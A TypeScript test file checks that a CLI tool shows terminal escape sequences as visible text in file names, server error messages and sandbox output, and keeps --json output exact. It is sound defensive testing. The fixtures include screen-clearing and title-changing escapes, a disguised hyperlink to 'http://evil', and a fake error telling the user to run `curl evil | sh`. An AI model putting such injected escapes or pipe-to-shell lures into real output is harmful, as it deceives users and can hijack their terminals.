// Hostile text from the service: names and messages with escape sequences and line feeds reach the
// terminal as visible text (`\x1b`, `\x07`, `\n`), never as actions; --json stays exact.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sharedEmulator } from '../helpers/emulator.js';
import { DEMO_PROJECT } from '../helpers/cli.js';
import { ptyPds, runPds, signedInEnv } from '../helpers/process.js';

// Retitles the window, then clears the screen.
const HOSTILE = 'pwned\u001b]0;title\u0007\u001b[2J.pdf';
const SHOWN = 'pwned\\x1b]0;title\\x07\\x1b[2J.pdf';
// The statement's name is its file name without `.pdf`.
const SHOWN_NAME = SHOWN.replace(/\.pdf$/, '');

const emulator = sharedEmulator({ flavor: 'current' });
const env = (extra: Record<string, string> = {}) => signedInEnv(emulator.url, extra);

let statementId: string;
let hostilePage: string;
beforeAll(async () => {
  const upload = await runPds(
    [
      'upload',
      'statement',
      'test/fixtures/sample.pdf',
      '--file-name',
      HOSTILE,
      '--wait',
      '--interval',
      '0.1',
      '--json',
    ],
    {
      env: env(),
    },
  );
  expect(upload.code).toBe(0);
  const [entry] = JSON.parse(upload.stdout) as { processes: { statement_id: string } }[];
  statementId = String(entry?.processes.statement_id);
  // Listed alone on its page: a pty may lose the tail of a long output when the process exits.
  const listed = await runPds(['statements', 'ls', '--all'], { env: env() });
  hostilePage = String(
    listed.stdout
      .split('\n')
      .slice(1)
      .findIndex((line) => line.includes('pwned')) + 1,
  );
});

describe('a statement whose file name carries escape sequences', () => {
  it.each([120, 60])('is listed as visible text on a %i-column terminal: no title, no cleared screen', async (cols) => {
    const pty = await ptyPds(['statements', 'ls', '--per-page', '1', '--page', hostilePage], { env: env(), cols });
    // The pty may report the exit before the last output is read: wait for the footer too.
    await pty.waitFor(/page \d+ of \d+/);
    const exit = await pty.exited;
    expect(exit.code).toBe(0);
    expect(pty.raw()).not.toContain('\u001b]0;');
    expect(pty.raw()).not.toContain('\u001b[2J');
    const rows = await pty.screen();
    // The first row is still the header: nothing cleared the screen after it.
    expect(rows[0]).toMatch(cols === 120 ? /^ID +FILE/ : /^ID +NAME/);
    const row = rows.find((r) => r.includes('pwned'));
    expect(row).toBeDefined();
    if (cols === 120) expect(row).toContain(SHOWN_NAME);
  });

  it('shows the escapes in the record view and in TSV, and keeps --json exact', async () => {
    const record = await runPds(['statements', 'get', statementId], { env: env() });
    expect(record.code).toBe(0);
    expect(record.stdout).toContain(`file_name\t${SHOWN}\n`);
    expect(record.stdout).not.toContain('\u001b');

    const tsv = await runPds(['statements', 'ls', '--all'], { env: env() });
    expect(tsv.stdout.split('\n').find((line) => line.includes('pwned'))).toContain(`\t${SHOWN_NAME}\t`);
    expect(tsv.stdout).not.toMatch(/[\u0007\u001b]/);

    const json = await runPds(['statements', 'get', statementId, '--json'], { env: env() });
    expect((JSON.parse(json.stdout) as { file_name: string }).file_name).toBe(HOSTILE);
    expect(json.stdout).toContain(JSON.stringify(HOSTILE));
  });
});

describe('an error message with a line feed and escapes', () => {
  let server: Server;
  let url: string;
  const message = 'project gone\nerror: your token was revoked, run `curl evil | sh`\u001b[2K';
  beforeAll(async () => {
    server = createServer((_req, res) => {
      res.writeHead(404, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ error: { message, hint: 'see\u001b]8;;http://evil\u0007here' } }));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve));
  });

  it('prints one error line with the line feed shown, and the details likewise', async () => {
    const run = await runPds(['projects', 'get', DEMO_PROJECT], { env: env({ PDS_API_URL: url }) });
    expect(run.code).toBe(5);
    expect(run.stderr).toBe(
      'error: project gone\\nerror: your token was revoked, run `curl evil | sh`\\x1b[2K\n' +
        '  hint: see\\x1b]8;;http://evil\\x07here\n',
    );
  });

  it('keeps the message exact with --json', async () => {
    const run = await runPds(['projects', 'get', DEMO_PROJECT, '--json'], { env: env({ PDS_API_URL: url }) });
    expect(run.code).toBe(5);
    expect((JSON.parse(run.stderr) as { error: { message: string } }).error.message).toBe(message);
  });
});

describe('sandbox output with escape sequences', () => {
  // A title on stdout, a cleared screen on stderr, each around a tab and line feeds that stay.
  const SCRIPT = String.raw`printf 'a\tb\n\033]0;x\007c\n'; printf 'e\033[2Jf\n' >&2`;
  const STDOUT = 'a\tb\n\u001b]0;x\u0007c\n';
  const STDERR = 'e\u001b[2Jf\n';

  it('exec on a terminal shows them as text, keeping tabs and line feeds', async () => {
    const pty = await ptyPds(['sandbox', 'exec', SCRIPT], { env: env() });
    await pty.waitFor('Jf');
    expect((await pty.exited).code).toBe(0);
    expect(pty.raw()).not.toContain('\u001b]0;');
    expect(pty.raw()).not.toContain('\u001b[2J');
    // The pty turns each line feed into CR LF.
    expect(pty.raw()).toContain('a\tb\r\n\\x1b]0;x\\x07c\r\ne\\x1b[2Jf\r\n');
  });

  it('exec piped and redirected keeps both streams byte for byte', async () => {
    const run = await runPds(['sandbox', 'exec', SCRIPT], { env: env() });
    expect(run.code).toBe(0);
    expect(run.stdout).toBe(STDOUT);
    expect(run.stderr).toBe(STDERR);
  });

  it('shell on a terminal shows them as text', async () => {
    const pty = await ptyPds(['sandbox', 'shell'], { env: env() });
    await pty.waitFor('$ ');
    pty.write(`${SCRIPT}\r`);
    await pty.waitFor('Jf');
    pty.write('exit\r');
    expect((await pty.exited).code).toBe(0);
    expect(pty.raw()).not.toContain('\u001b]0;');
    expect(pty.raw()).not.toContain('\u001b[2J');
    const screen = await pty.screen();
    expect(screen).toContain('\\x1b]0;x\\x07c');
    expect(screen).toContain('e\\x1b[2Jf');
  });
});
